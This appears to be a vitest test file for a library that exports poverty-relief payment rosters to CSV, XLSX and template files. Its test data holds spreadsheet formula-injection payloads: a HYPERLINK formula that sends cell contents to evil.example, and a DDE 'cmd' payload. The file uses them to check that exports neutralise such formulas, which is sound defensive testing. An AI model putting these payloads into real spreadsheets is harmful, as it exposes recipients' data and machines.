import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { fenMax, formatYuan, parseYuan } from '@fundtrace/money';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import iconv from 'iconv-lite';
import { afterEach, describe, expect, it, vi } from 'vitest';
import {
  type CellValue,
  cellLengthMax,
  dosDateTime,
  escapeCsvCell,
  isFormulaLike,
  type OutputColumn,
  templateTimestamp,
  withZipEntryTimes,
  writeCsv,
  writeTemplate,
  writeXlsx,
} from '../src/index';
import { readAll, rosterColumns, scratchDir } from './helpers';

const dir = await scratchDir();

const outputColumns = [
  { field: 'household_no', header: '户编号', kind: 'text' },
  { field: 'name', header: '户主姓名' },
  { field: 'amount', header: '金额（元）', kind: 'money' },
  { field: 'paid_on', header: '发放日期', kind: 'date' },
  { field: 'note', header: '备注' },
] as const satisfies readonly OutputColumn[];

type Row = Record<(typeof outputColumns)[number]['field'], CellValue>;

const triggers = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
/** Text that often starts with a formula trigger. */
const dangerousText = fc.oneof(
  fc.string(),
  fc.tuple(fc.constantFrom(...triggers), fc.string()).map(([trigger, rest]) => trigger + rest),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|',
    '-2+3',
    '+86 138',
  ),
);

describe('escapeCsvCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+86 138', "'+86 138"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['＝1+1', "'＝1+1"],
    ['-1234.56', '-1234.56'],
    ['-5', '-5'],
    ['张三', '张三'],
    ['', ''],
    ['a=b', 'a=b'],
  ])('%j → %j', (text, escaped) => {
    expect(escapeCsvCell(text)).toBe(escaped);
  });

  it('leaves no cell that a spreadsheet would execute, and changes nothing else', () => {
    fc.assert(
      fc.property(dangerousText, (text) => {
        const escaped = escapeCsvCell(text);
        expect(isFormulaLike(escaped)).toBe(false);
        expect(escaped === text || escaped === `'${text}`).toBe(true);
        if (!isFormulaLike(text)) expect(escaped).toBe(text);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('writeCsv', () => {
  it('writes UTF-8 with BOM, CRLF, money as 1234.56, dates as ISO days', async () => {
    const bytes = await buffer(
      writeCsv<keyof Row>(
        [
          {
            household_no: '0012',
            name: '张三',
            amount: 123456n,
            paid_on: new Date(Date.UTC(2019, 4, 3)),
            note: null,
          },
          { household_no: '0013', name: '李, "四"', amount: -5n, paid_on: '2019-05-04', note: undefined },
        ],
        outputColumns,
      ),
    );
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe(
      '户编号,户主姓名,金额（元）,发放日期,备注\r\n0012,张三,1234.56,2019-05-03,\r\n0013,"李, ""四""",-0.05,2019-05-04,\r\n',
    );
  });

  it('escapes every cell, headers included, so no written cell is formula-like', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.record({ name: dangerousText, note: dangerousText }), { maxLength: 20 }),
        dangerousText,
        async (rows, header) => {
          const csv = await buffer(
            writeCsv(rows, [
              { field: 'name', header },
              { field: 'note', header: '备注' },
            ]),
          );
          const records: string[][] = parse(csv, { bom: true, relax_column_count: true });
          expect(records).toHaveLength(rows.length + 1);
          for (const record of records) for (const cell of record) expect(isFormulaLike(cell)).toBe(false);
        },
      ),
      { numRuns: 200 },
    );
  });

  it('writes GB18030 for old spreadsheets, which readTable reads back', async () => {
    const bytes = await buffer(
      writeCsv(
        [{ household_no: '1', name: '刘䶮', amount: 100n, paid_on: null, note: '危房' }],
        outputColumns,
        {
          encoding: 'gb18030',
        },
      ),
    );
    expect(iconv.decode(bytes, 'gb18030')).toContain('刘䶮');
    expect(bytes.includes(Buffer.from('刘', 'utf8'))).toBe(false);
    const [row] = await readAll({ bytes, filename: 'export.csv' }, { columns: rosterColumns });
    expect(row?.values).toMatchObject({ name: '刘䶮', amount: '1.00' });
  });

  it('round-trips money through CSV and parseYuan exactly', async () => {
    const amounts = fc.sample(fc.bigInt({ min: -fenMax, max: fenMax }), 500);
    const csv = await buffer(
      writeCsv(
        amounts.map((amount, i) => ({
          household_no: String(i),
          name: 'n',
          amount,
          paid_on: null,
          note: null,
        })),
        outputColumns,
      ),
    );
    const rows = await readAll({ bytes: csv, filename: 'x.csv' }, { columns: rosterColumns });
    expect(rows.map((row) => parseYuan(row.values.amount, { allowNegative: true, allowZero: true }))).toEqual(
      amounts.map((fen) => ({ ok: true, fen })),
    );
  });

  it('refuses money that is not a bigint and cells longer than a spreadsheet holds', async () => {
    await expect(
      buffer(writeCsv([{ amount: 12.5 }], [{ field: 'amount', header: '金额', kind: 'money' }])),
    ).rejects.toThrow(/bigint of fen/);
    await expect(
      buffer(writeCsv([{ note: 'x'.repeat(cellLengthMax + 1) }], [{ field: 'note', header: '备注' }])),
    ).rejects.toThrow(/do not fit/);
    expect(() => writeCsv([], [])).toThrow(TypeError);
  });
});

describe('writeXlsx', () => {
  it('round-trips rows through exceljs and readTable: text, money, dates, numbers', async () => {
    const bytes = await buffer(
      writeXlsx(
        [
          { household_no: '0012', name: '张三', amount: 123456n, paid_on: '2019-05-03', note: 42 },
          {
            household_no: '411325199001011234',
            name: '李四',
            amount: -1n,
            paid_on: new Date(Date.UTC(2020, 1, 29)),
            note: 'x',
          },
        ],
        outputColumns,
        { sheetName: '发放明细' },
      ),
    );
    const rows = await readAll({ bytes, filename: 'export.xlsx' }, { columns: rosterColumns });
    expect(rows.map((row) => row.values)).toEqual([
      { household_no: '0012', name: '张三', amount: '1234.56', paid_on: '2019-05-03', note: '42' },
      { household_no: '411325199001011234', name: '李四', amount: '-0.01', paid_on: '2020-02-29', note: 'x' },
    ]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
    const sheet = workbook.getWorksheet('发放明细')!;
    expect(sheet.getCell('C2').value).toBe(1234.56);
    expect(sheet.getCell('C2').numFmt).toBe('#,##0.00');
    expect(sheet.getCell('A3').value).toBe('411325199001011234');
  });

  it('writes formula-looking text as plain strings, never as formulas', async () => {
    const texts = fc.sample(dangerousText, 300);
    const bytes = await buffer(
      writeXlsx(
        texts.map((note) => ({ note })),
        [{ field: 'note', header: '=HEADER()' }],
      ),
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getCell('A1').value).toBe('=HEADER()');
    let checked = 0;
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(typeof cell.value).toBe('string');
        checked += 1;
      });
    });
    expect(checked).toBe(1 + texts.filter((text) => text !== '').length);
  });

  it('round-trips every amount up to fenMax exactly through a number cell', async () => {
    const amounts = [
      0n,
      1n,
      fenMax,
      -fenMax,
      fenMax - 1n,
      999_999_999_999_99n,
      ...fc.sample(fc.bigInt({ min: -fenMax, max: fenMax }), 2000),
    ];
    const bytes = await buffer(
      writeXlsx(
        amounts.map((amount, i) => ({ no: String(i), amount })),
        [
          { field: 'no', header: '户编号' },
          { field: 'amount', header: '金额', kind: 'money' },
        ],
      ),
    );
    const rows = await readAll(
      { bytes, filename: 'x.xlsx' },
      {
        columns: [
          { field: 'no', headers: ['户编号'] },
          { field: 'amount', headers: ['金额'] },
        ],
      },
    );
    const back = rows.map((row) => parseYuan(row.values.amount, { allowNegative: true, allowZero: true }));
    expect(back).toEqual(amounts.map((fen) => ({ ok: true, fen })));
    expect(rows[2]?.values.amount).toBe(formatYuan(fenMax, { grouping: false }).replace(/\.00$/, ''));
  });

  it('replaces characters XML cannot carry instead of writing a file Excel refuses', async () => {
    const bytes = await buffer(
      writeXlsx([{ note: 'a\u0000b\u001Fc\uD800' }], [{ field: 'note', header: '备注' }]),
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
    expect(workbook.worksheets[0]!.getCell('A2').value).toBe('a\uFFFDb\uFFFDc\uFFFD');
  });

  it('streams from an async source, and fails the stream (not hangs) when the source fails', async () => {
    async function* source(failAt?: number) {
      for (let i = 0; i < 50; i += 1) {
        if (i === failAt) throw new Error('projection query failed');
        yield { no: String(i), amount: BigInt(i) };
      }
    }
    const columns = [
      { field: 'no', header: '户编号' },
      { field: 'amount', header: '金额', kind: 'money' },
    ] as const;
    const specs = [
      { field: 'no', headers: ['户编号'] },
      { field: 'amount', headers: ['金额'] },
    ] as const;
    const bytes = await buffer(writeXlsx(source(), columns));
    const rows = await readAll({ bytes, filename: 'a.xlsx' }, { columns: specs });
    expect(rows).toHaveLength(50);
    expect(rows[49]?.values).toEqual({ no: '49', amount: '0.49' });
    await expect(buffer(writeXlsx(source(10), columns))).rejects.toThrow(/projection query failed/);
    await expect(buffer(writeCsv(source(10), columns))).rejects.toThrow(/projection query failed/);
    const empty = await buffer(writeXlsx([], columns));
    expect(await readAll({ bytes: empty, filename: 'a.xlsx' }, { columns: specs })).toEqual([]);
  });

  it('refuses bad sheet names and bad values', async () => {
    expect(() => writeXlsx([], [{ field: 'a', header: 'a' }], { sheetName: 'a/b' })).toThrow(/sheet name/);
    expect(() => writeXlsx([], [{ field: 'a', header: 'a' }], { sheetName: 'x'.repeat(32) })).toThrow(
      /sheet name/,
    );
    await expect(buffer(writeXlsx([{ a: 1 }], [{ field: 'a', header: 'a', kind: 'money' }]))).rejects.toThrow(
      /bigint of fen/,
    );
  });
});

describe('writeTemplate', () => {
  it('writes a template that readTable reads back as the example row, with text columns kept as text', async () => {
    const path = join(dir, 'roster-template.xlsx');
    const columns = rosterColumns.map((column) =>
      column.field === 'household_no'
        ? { ...column, kind: 'text' as const, description: '县扶贫办编制的户编号' }
        : column,
    );
    await writeTemplate(
      columns,
      { household_no: '0012', name: '张三', amount: 800000n, paid_on: '2019-05-03', note: '示例' },
      path,
    );
    const rows = await readAll({ path }, { columns: rosterColumns, unknownColumns: 'reject' });
    expect(rows).toEqual([
      {
        rowNumber: 2,
        values: { household_no: '0012', name: '张三', amount: '8000', paid_on: '2019-05-03', note: '示例' },
        problems: [],
      },
    ]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const [data, guide] = workbook.worksheets;
    expect(data!.getCell('A1').value).toBe('*户编号');
    expect(data!.getCell('E1').value).toBe('备注');
    expect(data!.getColumn(1).numFmt).toBe('@');
    expect(data!.getCell('C2').numFmt).toBe('#,##0.00');
    expect(guide!.name).toBe('填写说明');
    expect(guide!.getRow(2).values).toEqual([
      undefined,
      '户编号',
      '必填',
      'household_no、household no',
      '县扶贫办编制的户编号',
    ]);
  });

  it('is read by the same specs even when staff delete the * marks', async () => {
    const path = join(dir, 'edited-template.xlsx');
    await writeTemplate(rosterColumns, { household_no: '1', name: 'a', amount: 1n }, path);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    workbook.worksheets[0]!.getCell('A1').value = '户编号';
    await workbook.xlsx.writeFile(path);
    await writeFile(join(dir, 'copy.xlsx'), await readFile(path));
    const rows = await readAll({ path: join(dir, 'copy.xlsx') }, { columns: rosterColumns });
    expect(rows[0]?.values).toMatchObject({ household_no: '1', amount: '0.01' });
  });
});

describe('writeTemplate is reproducible', () => {
  afterEach(() => {
    vi.useRealTimers();
  });

  /** Each entry's DOS time and date from the central directory and the local header. */
  function entryTimes(archive: Buffer): number[] {
    const end = archive.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
    const times: number[] = [];
    let p = archive.readUInt32LE(end + 16);
    for (let i = 0; i < archive.readUInt16LE(end + 10); i++) {
      const local = archive.readUInt32LE(p + 42);
      times.push(archive.readUInt32LE(p + 12), archive.readUInt32LE(local + 10));
      p += 46 + archive.readUInt16LE(p + 28) + archive.readUInt16LE(p + 30) + archive.readUInt16LE(p + 32);
    }
    return times;
  }

  it('writes the same bytes at different times, stamped with templateTimestamp throughout', async () => {
    const example = { household_no: '0012', name: '张三', amount: 800000n, paid_on: '2019-05-03' };
    const written: Buffer[] = [];
    for (const now of ['2021-03-04T05:06:07Z', '2030-11-12T13:14:15Z']) {
      vi.useFakeTimers({ toFake: ['Date'], now: new Date(now) });
      const path = join(dir, `template-${written.length}.xlsx`);
      await writeTemplate(rosterColumns, example, path);
      written.push(await readFile(path));
      vi.useRealTimers();
    }
    expect(written[0]!.equals(written[1]!)).toBe(true);
    const { time, date } = dosDateTime(templateTimestamp);
    const stamped = entryTimes(written[0]!);
    expect(stamped.length).toBeGreaterThan(10);
    expect(new Set(stamped)).toEqual(new Set([(date << 16) | time]));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(written[0]! as unknown as ArrayBuffer);
    expect(workbook.created).toEqual(templateTimestamp);
    expect(workbook.modified).toEqual(templateTimestamp);
    // Still the template: it reads back as its example row.
    const rows = await readAll({ path: join(dir, 'template-0.xlsx') }, { columns: rosterColumns });
    expect(rows[0]?.values).toMatchObject({ household_no: '0012', amount: '8000' });
  });

  it('stamps DOS times exactly and refuses what it cannot stamp', () => {
    expect(dosDateTime(new Date('1980-01-01T00:00:00Z'))).toEqual({ time: 0, date: (1 << 5) | 1 });
    expect(dosDateTime(new Date('2024-12-31T23:59:59Z'))).toEqual({
      time: (23 << 11) | (59 << 5) | 29,
      date: (44 << 9) | (12 << 5) | 31,
    });
    expect(() => dosDateTime(new Date('1979-12-31T23:59:59Z'))).toThrow(RangeError);
    expect(() =>
      withZipEntryTimes(Buffer.from('not a zip at all, not even close'), templateTimestamp),
    ).toThrow(/no end of central directory/);
  });
});
